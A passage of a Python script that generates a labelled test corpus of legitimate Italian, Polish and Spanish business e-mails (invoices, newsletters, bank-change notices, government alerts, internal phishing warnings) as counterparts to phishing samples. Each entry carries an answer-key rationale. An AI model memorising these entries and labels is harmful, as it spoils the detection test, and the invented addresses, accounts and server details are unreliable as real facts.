          ('Prezzario Regione Lombardia 2027: aumenti medi del 3,1%', 'Calcestruzzi e acciaio stabili, crescono le voci di manodopera e noli.'),
          ('Sicurezza in cantiere: la patente a crediti un anno dopo', 'I dati dell\'Ispettorato e le verifiche più frequenti nei cantieri lombardi.')]
_html = ('<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><title>CantieriOggi</title></head><body style="margin:0;background:#f1f1f1">'
         '<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center"><table width="600" style="background:#fff;font-family:Arial,sans-serif;color:#222">'
         '<tr><td style="padding:18px 22px;background:#24507a;color:#fff;font-size:24px;font-weight:bold">Cantieri<span style="color:#ffb400">Oggi</span>'
         '<div style="font-size:12px;font-weight:normal">Newsletter settimanale &middot; 19 novembre 2026</div></td></tr>'
         + ''.join('<tr><td style="padding:16px 22px;border-bottom:1px solid #e5e5e5"><a href="%s" style="color:#24507a;font-size:17px;font-weight:bold;text-decoration:none">%s</a>'
                   '<p style="font-size:14px;line-height:20px;margin:6px 0 0 0">%s</p></td></tr>' % (_lk(i), _html_esc(t), _html_esc(b)) for i, (t, b) in enumerate(_items))
         + '<tr><td style="padding:16px 22px;font-size:11px;color:#777">Ricevi questa newsletter perché sei iscritto con l\'indirizzo alessandro.ricci@examplegroup.eu. '
           '<a href="https://a8b2c.emailsp.com/frontend/nl_catalog.aspx?u=%s">Cancella iscrizione</a><br>CantieriOggi &middot; Edizioni Tecniche Padane S.r.l. &middot; Via Mecenate 76 &middot; 20138 Milano</td></tr>'
           '</table></td></tr></table></body></html>\n' % H(_s + 'u', 20, B62))
M(dir='business', file='19-it-newsletter-cantierioggi', lang='it', charset='UTF-8 (QP), HTML-only',
  desc='Subscribed Italian construction newsletter (procurement code amendments, Lombardy price list, site safety licence) via the MailUp ESP.',
  why='Opt-in newsletter from a real ESP (emailsp.com = MailUp) with List-Unsubscribe and tracking links; no request of any kind.',
  mailfrom='bounce-%s@ms-mailup.emailsp.net' % H(_s + 'b', 16), rcpt='alessandro.ricci@examplegroup.eu', date=_d,
  helo='ms-out-41.emailsp.net', rdns='ms-out-41.emailsp.net', ip='91.208.136.41', tls='TLSv1.3',
  frm=('CantieriOggi', 'newsletter@cantierioggi.it'), to=[('Alessandro Ricci', 'alessandro.ricci@examplegroup.eu')],
  subject='Correttivo appalti, prezzario Lombardia 2027, patente a crediti',
  msgid='%s.%s@emailsp.com' % (HN(_s, 10 ** 9, 10 ** 10), H(_s, 12)),
  extra=[('List-Unsubscribe', '<https://a8b2c.emailsp.com/frontend/nl_catalog.aspx?u=%s>, <mailto:unsubscribe-%s@emailsp.net>' % (H(_s + 'u', 20, B62), H(_s + 'u2', 12))),
         ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'), ('Precedence', 'bulk'), ('X-Mailer', 'MailUp')],
  body=T(_html, 'html', cs='UTF-8'))

# --- 20 it: genuine Aruba PEC renewal reminder -----------------------------
_s = 'business/20'
_d = D('11-18 10:30:00')
_txt = '''Gentile Cliente,

ti ricordiamo che il servizio "PEC Pro" associato alla casella examplegroupitalia@pec.it scadrà il 18/12/2026.

Se hai attivato il rinnovo automatico non devi fare nulla: il rinnovo verrà effettuato con il metodo di pagamento registrato.

In caso contrario puoi rinnovare il servizio accedendo alla tua Area Clienti con la tua login (1184523@aruba.it) dalla home page di aruba.it, sezione "Area Clienti > Rinnovi".

Ti ricordiamo che Aruba non richiede mai dati di pagamento o credenziali tramite link inviati per e-mail.

Cordiali saluti,
Aruba S.p.A.

Questa è una comunicazione di servizio relativa ai servizi attivi sul tuo account.
Aruba S.p.A. - Via San Clemente, 53 - 24036 Ponte San Pietro (BG) - P.IVA 01573850516
'''
M(dir='business', file='20-it-aruba-pec-promemoria-rinnovo-genuino', lang='it', charset='UTF-8 (base64), multipart/alternative',
  desc='Genuine Aruba service reminder that the company PEC mailbox expires on 18/12/2026; points to the customer area without a renewal link.',
  why='Real Aruba sender domain staff.aruba.it from Aruba\'s own mail servers, no payment link, customer login mentioned, explicit anti-phishing note; hard twin of attack/19.',
  mailfrom='bounce-rinnovi@staff.aruba.it', rcpt='giulia.romano@example.com', date=_d,
  helo='smtp10.staff.aruba.it', rdns='smtp10.staff.aruba.it', ip='62.149.158.10', tls='TLSv1.3',
  frm=('Aruba.it', 'comunicazioni@staff.aruba.it'), to=ST('romano'),
  subject='Promemoria: servizio PEC Pro examplegroupitalia@pec.it in scadenza il 18/12/2026',
  msgid='%s.%d@staff.aruba.it' % (H(_s, 20), HN(_s, 10 ** 6, 10 ** 7)), henc='B',
  body=MP('alternative', [T(_txt, cs='UTF-8', cte='base64'),
                          T(plain_html(_txt, font='Arial, sans-serif', size='10pt'), 'html', cs='UTF-8', cte='base64')], _s, 'bulk'))

# --- 21 it: client complaint ------------------------------------------------
_s = 'business/21'
_d = D('11-25 17:48:31')
M(dir='business', file='21-it-cliente-reclamo-cantiere', lang='it', charset='ISO-8859-15 (QP)',
  desc='Client complaint: Immobiliare Navigli reports noise before 7:30, dust and a car damaged by debris from the crane at the Via Ripamonti site; threatens to withhold the next progress payment (SAL).',
  why='Known client on its own domain and mail host, angry but legitimate (no links, no payment redirection); must reach the country manager.',
  mailfrom='p.galli@immobiliarenavigli.it', rcpt='alessandro.ricci@examplegroup.eu', date=_d,
  helo='smtp-out06.register.it', rdns='smtp-out06.register.it', ip='195.110.124.136', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('Ing. Paolo Galli', 'p.galli@immobiliarenavigli.it'), to=ST('ricci'), cc=ST('romano'),
  subject='Cantiere Via Ripamonti 118 - reclamo per rumori, polveri e danni a terzi', hcs='ISO-8859-15',
  msgid='%s@immobiliarenavigli.it' % H(_s, 30), order=['Message-ID', 'Date', 'From', 'To', 'Cc', 'Subject'],
  extra=[('User-Agent', 'Mozilla Thunderbird'), ('Content-Language', 'it-IT')],
  body=T('''Gentile Ing. Ricci,

Le scrivo a nome di Immobiliare Navigli S.r.l. in merito al cantiere di Via Ripamonti 118.

Negli ultimi dieci giorni abbiamo ricevuto numerose segnalazioni dai condomìni confinanti e dal negozio al piano terra dello stabile adiacente:

- lavorazioni rumorose iniziate prima delle 7:30, anche sabato 21 novembre, in violazione del regolamento comunale;
- polveri di demolizione senza bagnatura, che hanno imbrattato facciate e auto parcheggiate;
- un'autovettura danneggiata il 24/11 da un frammento caduto durante la movimentazione con la gru.

Le chiedo di intervenire immediatamente, di comunicarci entro venerdì il nominativo del nuovo preposto di cantiere e di aprire la pratica con la Vostra assicurazione RCT per il danno al veicolo (le foto sono a disposizione).

In mancanza di riscontri saremo costretti a segnalare la situazione alla Polizia Locale e a sospendere il pagamento del prossimo SAL.

Distinti saluti

Ing. Paolo Galli
Direttore Tecnico
Immobiliare Navigli S.r.l.
Ripa di Porta Ticinese 39 - 20143 Milano
''', cs='ISO-8859-15', ctparams='; format=flowed', quote_cs=False))

# ===========================================================================
# Polish business
# ===========================================================================
PL_PARTNER_NIP = pl_nip('778142368')
_ksef_no = '%s-20261110-%s-%s' % (PL_PARTNER_NIP, H('ksef', 12, UPHEX), H('ksef2', 2, UPHEX))

# --- 22 pl: Partner Logistik invoice ---------------------------------------
_s = 'business/22'
_d = D('11-10 13:27:40')
M(dir='business', file='22-pl-partner-logistik-faktura-ksef', lang='pl', charset='ISO-8859-2 (QP) + PDF',
  desc='Partner Logistik accounting sends invoice FV/2026/11/0457 (46 128,90 zł) with its KSeF number; payment to the known PKO BP account.',
  why='Genuine domain partner-logistik.pl on its usual home.pl server, known account %s, KSeF reference as required in 2026; routine invoice.' % nrb(PL_IBAN_OLD),
  mailfrom='ksiegowosc@partner-logistik.pl', rcpt='piotr.nowak@example.com', date=_d,
  helo='cloudserver095412.home.pl', rdns='cloudserver095412.home.pl', ip='79.96.170.41', tls='TLSv1.3',
  received=['from KSIEGOWOSC-PC (unknown [83.238.167.20])\n\tby cloudserver095412.home.pl (Postfix) with ESMTPSA id 7C1B44A02E3\n\tfor <piotr.nowak@example.com>; %s' % fmt(plus(_d, 1))],
  frm=('Partner Logistik - Księgowość', 'ksiegowosc@partner-logistik.pl'), to=ST('nowak'),
  subject='Faktura FV/2026/11/0457 - Partner Logistik sp. z o.o.', hcs='ISO-8859-2',
  msgid='000601dc5216$%s$%s@partner-logistik.pl' % (H(_s, 8), H(_s + 'b', 8)),
  extra=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', thread_index(_s)), ('Content-Language', 'pl')],
  body=MP('mixed', [
      T(f'''Dzień dobry,

w załączeniu przesyłamy wizualizację faktury VAT nr FV/2026/11/0457 z dnia 10.11.2026 r. za usługi transportowe i rozładunek HDS na budowie Wola Park II (zlecenia 2026/10/771-2026/10/784).

Kwota brutto: 46 128,90 zł
Termin płatności: 25.11.2026 r.
Numer KSeF: {_ksef_no}
Rachunek: PKO BP {nrb(PL_IBAN_OLD)}

Faktura została wystawiona w Krajowym Systemie e-Faktur; załączony plik PDF jest jej wizualizacją.

Z poważaniem
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Gdyńska 31, 61-016 Poznań
NIP {nip_fmt(PL_PARTNER_NIP)}
''', cs='ISO-8859-2'),
      ATT(pdf_doc(['#Partner Logistik sp. z o.o.', 'ul. Gdynska 31, 61-016 Poznan, NIP ' + nip_fmt(PL_PARTNER_NIP), '',
                   'Faktura VAT FV/2026/11/0457 z dnia 10.11.2026', 'Numer KSeF: ' + _ksef_no, '',
                   'Nabywca: Example Group Polska sp. z o.o., NIP ' + nip_fmt(EG_NIP), '',
                   'Transport i rozladunek HDS, budowa Wola Park II     37 503,17 zl netto', 'VAT 23%: 8 625,73 zl    Brutto: 46 128,90 zl', '',
                   'Termin platnosci 25.11.2026   Rachunek: ' + nrb(PL_IBAN_OLD)], 'FV/2026/11/0457', producer='Comarch ERP Optima'),
          'application/pdf', 'FV_2026_11_0457.pdf'),
  ], _s, 'outlook'))

# --- 23 pl: GENUINE bank-account change from Partner Logistik --------------
_s = 'business/23'
_d = D('12-02 11:14:06')
M(dir='business', file='23-pl-partner-logistik-zmiana-rachunku-prawdziwa', lang='pl', charset='windows-1250 (base64) + PDF',
  desc='Genuine bank-account change: Tadeusz Zieliński announces the move to Santander Bank Polska from 01.01.2027, 2026 invoices stay on PKO BP, asks for phone verification at the contract number.',
  why='Genuine domain and server, long notice period, old account remains valid, invites verification on the number from the contract, original by post; hard twin of attack/22.',
  mailfrom='t.zielinski@partner-logistik.pl', rcpt='piotr.nowak@example.com', date=_d,
  helo='cloudserver095412.home.pl', rdns='cloudserver095412.home.pl', ip='79.96.170.41', tls='TLSv1.3',
  received=['from NB-ZIELINSKI (unknown [83.238.167.20])\n\tby cloudserver095412.home.pl (Postfix) with ESMTPSA id 3A9F1E40C17\n\tfor <piotr.nowak@example.com>; %s' % fmt(plus(_d, 1))],
  frm=('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl'), to=ST('nowak'), cc=ST('lewandowski'),
  subject='Nowy rachunek bankowy Partner Logistik od 1 stycznia 2027 r.', hcs='windows-1250', henc='B',
  msgid='001e01dc6351$%s$%s@partner-logistik.pl' % (H(_s, 8), H(_s + 'b', 8)),
  extra=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', thread_index(_s)), ('Content-Language', 'pl')],
  body=MP('mixed', [
      T(f'''Szanowny Panie Piotrze,

zgodnie z zapowiedzią z naszego spotkania w październiku informuję, że od 1 stycznia 2027 r. Partner Logistik sp. z o.o. przenosi obsługę bankową do Santander Bank Polska. Nowy rachunek do płatności:

{nrb(PL_IBAN_NEW)}

Rachunek jest już zgłoszony i widnieje na białej liście podatników VAT – można to sprawdzić w wyszukiwarce Ministerstwa Finansów. Wszystkie faktury wystawione w 2026 r. prosimy nadal opłacać na dotychczasowy rachunek w PKO BP; od stycznia nowy numer będzie widoczny na fakturach w KSeF.

Wiem, że zmiany danych bankowych weryfikują Państwo telefonicznie – proszę zadzwonić do mnie lub do naszej głównej księgowej, pani Ewy Sikory, pod numer z umowy (61 852 40 00). Pismo podpisane przez Zarząd przesyłam w załączniku, oryginał wysłaliśmy pocztą.

Z poważaniem
Tadeusz Zieliński
Kierownik ds. Kluczowych Klientów
Partner Logistik sp. z o.o.
ul. Gdyńska 31, 61-016 Poznań
tel. +48 61 852 40 17
''', cs='windows-1250', cte='base64'),
      ATT(pdf_doc(['#Partner Logistik sp. z o.o.', 'ul. Gdynska 31, 61-016 Poznan', '', 'Poznan, 01.12.2026', '',
                   'Zawiadomienie o zmianie rachunku bankowego od 01.01.2027', '',
                   'Nowy rachunek: Santander Bank Polska S.A. ' + nrb(PL_IBAN_NEW),
                   'Faktury z 2026 r.: nadal PKO BP ' + nrb(PL_IBAN_OLD), '', 'Weryfikacja telefoniczna: 61 852 40 00', '', 'Zarzad'],
                  'Zmiana rachunku 2027'),
          'application/pdf', 'Pismo_zmiana_rachunku_2027.pdf'),
  ], _s, 'outlook'))

# --- 24 pl: subscribed newsletter -----------------------------------------
_s = 'business/24'
_d = D('11-18 12:00:03')
_lk = lambda i: 'https://link.freshmail.pl/c/%s/%s' % (H(_s + 'c', 10), H(_s + str(i), 16))
_items = [('KSeF w budownictwie: odwrotne obciążenie a faktury korygujące', 'Jak prawidłowo korygować faktury wystawione w KSeF dla usług budowlanych - praktyczny poradnik.'),
          ('Nowe warunki techniczne 2027: co zmienia się w izolacyjności przegród', 'Przegląd projektu rozporządzenia i terminów wejścia w życie.'),
          ('Waloryzacja wynagrodzeń w zamówieniach publicznych', 'Wskaźniki GUS za III kwartał 2026 i ich wpływ na kontrakty budowlane.')]
_html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f2f2f2">'
         '<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center"><table width="600" style="background:#fff;font-family:Verdana,sans-serif;color:#222">'
         '<tr><td style="padding:18px;background:#003c71;color:#fff;font-size:21px">Przegląd Budowlany <span style="font-size:12px">&middot; newsletter 46/2026</span></td></tr>'
         + ''.join('<tr><td style="padding:14px 18px;border-bottom:1px solid #ddd"><b style="font-size:15px">%s</b><p style="font-size:13px;margin:6px 0">%s</p>'
                   '<a href="%s" style="font-size:12px;color:#003c71">Czytaj dalej</a></td></tr>' % (_html_esc(t), _html_esc(b), _lk(i)) for i, (t, b) in enumerate(_items))
         + '<tr><td style="padding:14px 18px;font-size:10px;color:#777">Otrzymujesz tę wiadomość, ponieważ zapisałeś się do newslettera Przeglądu Budowlanego. '
           '<a href="https://link.freshmail.pl/u/%s">Wypisz się</a><br>Wydawnictwo Techniczne Budmedia sp. z o.o., ul. Kolejowa 5/7, 01-217 Warszawa</td></tr>'
           '</table></td></tr></table></body></html>\n' % H(_s + 'u', 20))
M(dir='business', file='24-pl-newsletter-przeglad-budowlany', lang='pl', charset='UTF-8 (QP), HTML-only',
  desc='Subscribed Polish construction newsletter (KSeF in construction, new technical regulations, indexation) sent through FreshMail.',
  why='Opt-in bulk mail via a Polish ESP with List-Unsubscribe; mentions KSeF like the phishing in attack/23 but contains no login request.',
  mailfrom='bounce-%s@bounce.freshmail.pl' % H(_s + 'b', 16), rcpt='krzysztof.lewandowski@example.com', date=_d,
  helo='mta21.freshmail.pl', rdns='mta21.freshmail.pl', ip='46.105.147.21', tls='TLSv1.3',
  frm=('Przegląd Budowlany', 'newsletter@przegladbudowlany.pl'), to=ST('lewandowski'),
  subject='KSeF a odwrotne obciążenie, nowe WT 2027, waloryzacja - newsletter 46/2026',
  msgid='%s@freshmail.pl' % H(_s, 28),
  extra=[('List-Unsubscribe', '<https://link.freshmail.pl/u/%s>' % H(_s + 'u', 20)), ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'),
         ('Precedence', 'bulk'), ('X-Mailer', 'FreshMail')],
  body=T(_html, 'html', cs='utf-8'))

# --- 25 pl: internal security warning (full of phishing vocabulary) ---------
_s = 'business/25'
_d = D('11-30 08:31:19')
_txt = '''Drodzy,

w ostatnich dniach do kilku osób w biurze trafiły fałszywe wiadomości:

1. „Zmiana numeru rachunku bankowego” podszywająca się pod Partner Logistik – z domeny partner-logistlk.pl (litera „l” zamiast „i”),
2. „KSeF: wygaśnięcie uprawnień” z linkiem do strony udającej Ministerstwo Finansów,
3. „Potwierdzenie przelewu” z archiwum ZIP.

Przypominam zasady:
- każdą zmianę rachunku bankowego kontrahenta weryfikujemy telefonicznie pod numerem z umowy lub z naszego systemu, nigdy pod numerem podanym w mailu,
- nie logujemy się do KSeF, banku ani poczty z linków w wiadomościach,
- nie otwieramy archiwów ZIP od nieznanych nadawców; w razie wątpliwości zgłaszamy wiadomość przyciskiem „Zgłoś phishing” w Outlooku.

Jeśli ktoś kliknął link albo podał hasło, proszę o natychmiastowy kontakt z Piotrem lub ze mną – nikt nie będzie miał z tego powodu żadnych nieprzyjemności.

Pozdrawiam
Krzysztof Lewandowski
Dyrektor Oddziału Polska
Example Group Polska sp. z o.o.
'''
M(dir='business', file='25-pl-wewnetrzne-ostrzezenie-przed-phishingiem', lang='pl', charset='windows-1250 (QP), multipart/alternative',
  desc='Internal warning from the Polish country manager to all Warsaw staff describing the recent fake bank-change, KSeF and ZIP e-mails.',
  why='Internal mail via mail-int01 from a real manager to a distribution list; full of phishing vocabulary (rachunek, KSeF, ZIP, hasło, link) but purely informative - classic false-positive trap.',
  infra=INTERNAL_RELAY(_d, _s), mailfrom='krzysztof.lewandowski@example.com', rcpt='anna.kowalska@example.com', date=_d,
  frm=('Krzysztof Lewandowski', 'krzysztof.lewandowski@example.com'), to=[('PL - wszyscy', 'pl-wszyscy@example.com')],
  subject='UWAGA: fałszywe e-maile o zmianie rachunku, KSeF i potwierdzeniach przelewu', hcs='windows-1250',
  msgid=exch_mid(_s, 'example.com'),
  extra=[('Thread-Topic', ew('UWAGA: fałszywe e-maile o zmianie rachunku, KSeF i potwierdzeniach przelewu', 'windows-1250', 'Q')),
         ('Thread-Index', thread_index(_s)), ('Importance', 'high'), ('Content-Language', 'pl-PL'), ('x-originating-ip', '[10.40.1.15]')],
  body=MP('alternative', [T(_txt, cs='windows-1250'), T(outlook_html(_txt, 'windows-1250', 'PL'), 'html', cs='windows-1250')], _s, 'outlook'))

# --- 26 pl: genuine e-Doręczenia notification ------------------------------
_s = 'business/26'
_d = D('11-06 10:02:44')
M(dir='business', file='26-pl-e-doreczenia-powiadomienie-prawdziwe', lang='pl', charset='UTF-8 (QP)',
  desc='Genuine e-Doręczenia notice that a new message from ZUS is in the company\'s e-delivery box; links only to the gov.pl service.',
  why='Government notification from the gov.pl domain and the state IT centre\'s mail servers, no attachment, link to www.gov.pl/web/e-doreczenia; hard twin of attack/26.',
  mailfrom='no-reply@edoreczenia.gov.pl', rcpt='marta.wisniewska@example.com', date=_d,
  helo='smtp-out2.coi.gov.pl', rdns='smtp-out2.coi.gov.pl', ip='195.164.229.36', tls='TLSv1.3',
  frm=('e-Doręczenia', 'no-reply@edoreczenia.gov.pl'), to=ST('wisniewska'),
  subject='Nowa wiadomość w skrzynce do doręczeń elektronicznych',
  msgid='%s@edoreczenia.gov.pl' % H(_s, 36),
  body=T('''Dzień dobry,

w skrzynce do doręczeń elektronicznych o adresie AE:PL-30417-55218-WJRTC-18 (EXAMPLE GROUP POLSKA SP. Z O.O.) jest nowa wiadomość.

Nadawca: Zakład Ubezpieczeń Społecznych
Data otrzymania: 06.11.2026 09:58

Aby ją odczytać, zaloguj się do skrzynki na stronie https://www.gov.pl/web/e-doreczenia lub w aplikacji mObywatel.

To powiadomienie nie zawiera treści wiadomości ani załączników.

Wiadomość została wygenerowana automatycznie. Nie odpowiadaj na nią.
''', cs='UTF-8', quote_cs=False))

# ===========================================================================
# Spanish business
# ===========================================================================
HORM_CIF = es_cif('B', '4587123')

# --- 27 es: supplier invoice ----------------------------------------------
_s = 'business/27'
_d = D('11-16 12:40:33')
M(dir='business', file='27-es-hormigones-factura', lang='es', charset='ISO-8859-15 (QP) + PDF',
  desc='Hormigones del Tajo administration sends invoice 2026/F-1127 (13.600,40 EUR) for ready-mix concrete and pumping at the Valdebebas site.',
  why='Known supplier, genuine domain on its usual hosting, known CaixaBank IBAN %s, delivery notes referenced; routine invoice.' % iban_fmt(HORM_IBAN),
  mailfrom='administracion@hormigones-tajo.es', rcpt='javier.moreno@example.com', date=_d,
  helo='smtp-out-2.acens.net', rdns='smtp-out-2.acens.net', ip='217.116.0.229', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  received=['from ADMIN-PC2 (unknown [88.12.41.207])\n\t(Authenticated sender: administracion@hormigones-tajo.es)\n\tby smtp-out-2.acens.net (Postfix) with ESMTPA id 1F0C4A0E3B\n\tfor <javier.moreno@example.com>; %s' % fmt(plus(_d, 1))],
  frm=('Hormigones del Tajo - Administración', 'administracion@hormigones-tajo.es'), to=ST('moreno'),
  subject='Factura 2026/F-1127 - Hormigones del Tajo S.L.', hcs='ISO-8859-15',
  msgid='000401dc55c9$%s$%s@hormigones-tajo.es' % (H(_s, 8), H(_s + 'b', 8)),
  extra=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', thread_index(_s)), ('Content-Language', 'es')],
  body=MP('mixed', [
      T(f'''Buenos días:

Adjuntamos factura n.º 2026/F-1127 de fecha 16/11/2026, correspondiente a los suministros de hormigón HA-30/B/20/IIa y servicio de bombeo para la obra de Valdebebas - Parcela 4.12 (albaranes 88412 a 88437).

Base imponible:   11.240,00 €
IVA 21 %:          2.360,40 €
Total factura:    13.600,40 €
Vencimiento:      30/11/2026
Forma de pago:    transferencia a CaixaBank, {iban_fmt(HORM_IBAN)}

Un saludo,

Administración
Hormigones del Tajo S.L. - CIF {HORM_CIF}
Pol. Ind. Santa María de Benquerencia, C/ Río Jarama 118 - 45007 Toledo
Tel. 925 23 41 80
''', cs='ISO-8859-15'),
      ATT(pdf_doc(['#HORMIGONES DEL TAJO S.L.', 'CIF ' + HORM_CIF + ' - C/ Rio Jarama 118, 45007 Toledo', '',
                   'FACTURA 2026/F-1127   Fecha 16/11/2026', 'Cliente: Example Group Construcciones Espana S.L. - CIF ' + EG_CIF, '',
                   'Hormigon HA-30/B/20/IIa  124 m3  x 78,00   9.672,00', 'Servicio bomba 36 m  4 servicios       1.568,00', '',
                   'Base 11.240,00  IVA 21% 2.360,40  TOTAL 13.600,40 EUR', 'Vencimiento 30/11/2026 - CaixaBank ' + iban_fmt(HORM_IBAN)],
                  '2026/F-1127', producer='a3ERP'),
          'application/pdf', 'Factura_2026-F-1127.pdf'),
  ], _s, 'outlook'))

# --- 28 es: genuine AEAT notice (aviso, no attachment) ---------------------
_s = 'business/28'
_d = D('11-05 08:21:10')
M(dir='business', file='28-es-aeat-aviso-notificacion-genuino', lang='es', charset='ISO-8859-1 (QP)',
  desc='Genuine Agencia Tributaria "aviso": a new electronic notification is available in the Sede electrónica / DEHú; the mail itself carries no notification and no attachment.',
  why='Real AEAT notification pattern: informative only, points to sede.agenciatributaria.gob.es and dehu.redsara.es, states that AEAT never sends attachments; from the agency\'s mail gateway. Hard twin of attack/27.',
  mailfrom='avisos@correo.aeat.es', rcpt='javier.moreno@example.com', date=_d,
  helo='correo3.aeat.es', rdns='correo3.aeat.es', ip='195.57.64.83', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('Agencia Tributaria', 'avisos@correo.aeat.es'), to=[('', 'javier.moreno@example.com')],
  subject='Aviso de puesta a disposición de notificación electrónica', hcs='ISO-8859-1',
  msgid='%s.%s.JavaMail.aviso@correo.aeat.es' % (HN(_s, 10 ** 8, 10 ** 9), HN(_s + 'x', 10 ** 12, 10 ** 13)),
  body=T(f'''AGENCIA TRIBUTARIA

Le informamos de que tiene una nueva notificación electrónica de la Agencia Tributaria a su disposición en la Sede electrónica y en la Dirección Electrónica Habilitada única (DEHú).

Titular: EXAMPLE GROUP CONSTRUCCIONES ESPAÑA SL
NIF: {EG_CIF}
Fecha de puesta a disposición: 05/11/2026

Puede acceder a su contenido en el apartado "Mis notificaciones" de la Sede electrónica (https://sede.agenciatributaria.gob.es) o en https://dehu.redsara.es, identificándose con certificado electrónico, DNIe o Cl@ve.

Este aviso es meramente informativo y no contiene la notificación. La Agencia Tributaria no le solicitará por correo electrónico datos personales ni bancarios, ni le enviará archivos adjuntos.

Este es un mensaje automático. Por favor, no responda a este correo.
''', cs='ISO-8859-1', quote_cs=False))

# --- 29 es: client complaint -------------------------------------------------
_s = 'business/29'
_d = D('11-24 19:05:48')
_txt = '''Estimado Carlos:

Te escribo en relación con la obra de 84 viviendas en Valdebebas, parcela 4.12.

En la visita de ayer con la dirección facultativa se detectaron fisuras en el forjado de planta 3 (zona de los portales 2 y 3) y varias coqueras en pilares del sótano -1. La DF ha pedido ensayos de información y un informe de vuestro departamento técnico antes de autorizar la tabiquería en esas plantas.

Además, seguimos acumulando retraso: según el último programa de obra, la estructura debía estar terminada el 15 de noviembre y todavía estáis en cubierta. Te recuerdo que el contrato prevé una penalización de 1.500 € por día de retraso en hitos parciales.

Necesito antes del viernes 27:
1. Informe técnico sobre las fisuras y propuesta de reparación.
2. Programa de obra actualizado con medidas de recuperación.
3. Fecha para una reunión con vuestra dirección.

Lamento el tono, pero comercialmente ya tenemos las reservas firmadas y no podemos permitirnos más retrasos.

Un saludo,

Marta Gil
Directora de Proyectos
Promociones Castellana S.A.
Paseo de la Castellana 141, 28046 Madrid
'''
M(dir='business', file='29-es-cliente-reclamacion-fisuras-retraso', lang='es', charset='UTF-8 (QP), multipart/alternative',
  desc='Client complaint: Promociones Castellana reports slab cracks and honeycombing, delay against programme, reminds of delay penalties and demands a report by Friday.',
  why='Known client from its own M365 tenant; tough tone and penalties but no link, attachment or payment request.',
  infra=m365_infra(_s, _d, 'carlos.ruiz@example.com', 'PA6P194MB1044'),
  mailfrom='mgil@promocionescastellana.es', rcpt='carlos.ruiz@example.com', date=_d,
  frm=('Marta Gil', 'mgil@promocionescastellana.es'), to=ST('ruiz'),
  subject='Valdebebas P4.12 - fisuras forjado P3 y retraso estructura',
  extra=[('Thread-Topic', 'Valdebebas P4.12 - fisuras forjado P3 y retraso estructura'), ('Thread-Index', thread_index(_s)),
         ('Content-Language', 'es-ES')],
  body=MP('alternative', [T(_txt, cs='utf-8'), T(outlook_html(_txt, 'utf-8', 'ES'), 'html', cs='utf-8')], _s, 'outlook'))

# --- 30 es: internal genuine urgent payment --------------------------------
_s = 'business/30'
_d = D('12-01 08:44:02')
_txt = '''Javier:

Me ha llamado Raúl Ortega, de Hormigones del Tajo: tienen bloqueado nuestro riesgo y no nos sirven el hormigón del jueves para la losa de cubierta si hoy no reciben las facturas 2026/F-1093 y 2026/F-1127. Ya las he aprobado en el sistema.

Por favor, inclúyelas en la remesa de hoy con la cuenta de CaixaBank que tenemos en el maestro de proveedores. Ojo: la semana pasada Lucía recibió un correo desde un Hotmail pidiendo cambiar la cuenta. Es falso, no se toca nada del maestro.

Cuando salga la transferencia, mándale el justificante a Raúl a su correo de siempre (r.ortega@hormigones-tajo.es).

Gracias,
Carlos

Carlos Ruiz
Director País - España
Example Group Construcciones España S.L.
'''
M(dir='business', file='30-es-interno-pago-urgente-proveedor', lang='es', charset='UTF-8 (QP), multipart/alternative',
  desc='Internal: the real country director asks the accountant to include two approved concrete invoices in today\'s payment batch using the master-data account.',
  why='Internal mail through mail-int01, real colleagues, approval in the system, explicitly warns about the fake Hotmail bank change (attack/29); urgent but legitimate.',
  infra=INTERNAL_RELAY(_d, _s), mailfrom='carlos.ruiz@example.com', rcpt='javier.moreno@example.com', date=_d,
  frm=('Carlos Ruiz', 'carlos.ruiz@example.com'), to=ST('moreno'), cc=ST('fernandez'),
  subject='Pago Hormigones del Tajo - urgente hoy',
  msgid=exch_mid(_s, 'example.com'),
  extra=[('Thread-Topic', 'Pago Hormigones del Tajo - urgente hoy'), ('Thread-Index', thread_index(_s)), ('Importance', 'high'),
         ('Content-Language', 'es-ES'), ('x-originating-ip', '[10.50.1.22]')],
  body=MP('alternative', [T(_txt, cs='utf-8'), T(outlook_html(_txt, 'utf-8', 'ES'), 'html', cs='utf-8')], _s, 'outlook'))

# --- 31 es: subscribed newsletter (Acumbamail), Latin-1 ----------------------
_s = 'business/31'
_d = D('11-26 10:00:05')
_lk = lambda i: 'https://acumbamail.com/t/%s/%s/' % (H(_s + 'c', 8), H(_s + str(i), 14))
_items = [('Verifactu: calendario definitivo para empresas y autónomos', 'Resumen de plazos y requisitos de los sistemas informáticos de facturación.'),
          ('El precio del acero corrugado baja por tercer mes consecutivo', 'Índices de costes de la construcción de octubre de 2026.'),
          ('Convenio General del Sector de la Construcción: tablas salariales 2027', 'Publicadas las tablas provisionales y el calendario de negociación.')]
_txt = 'BOLETÍN CONSTRUCCIÓN HOY - 26 de noviembre de 2026\n\n' + '\n\n'.join('%s\n%s\nLeer más: %s' % (t, b, _lk(i)) for i, (t, b) in enumerate(_items)) + '''

Recibe este boletín porque se suscribió en construccionhoy.es.
Darse de baja: https://acumbamail.com/unsubscribe/%s/
Construcción Hoy Ediciones S.L. - C/ Princesa 31, 28008 Madrid
''' % H(_s + 'u', 20)
_html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body style="font-family:Arial,sans-serif;background:#f5f5f5">'
         '<table width="600" align="center" style="background:#ffffff"><tr><td style="background:#b71c1c;color:#fff;padding:16px;font-size:22px;font-weight:bold">Boletín Construcción Hoy</td></tr>'
         + ''.join('<tr><td style="padding:14px 16px;border-bottom:1px solid #ddd"><b>%s</b><br><span style="font-size:13px">%s</span><br><a href="%s">Leer más</a></td></tr>'
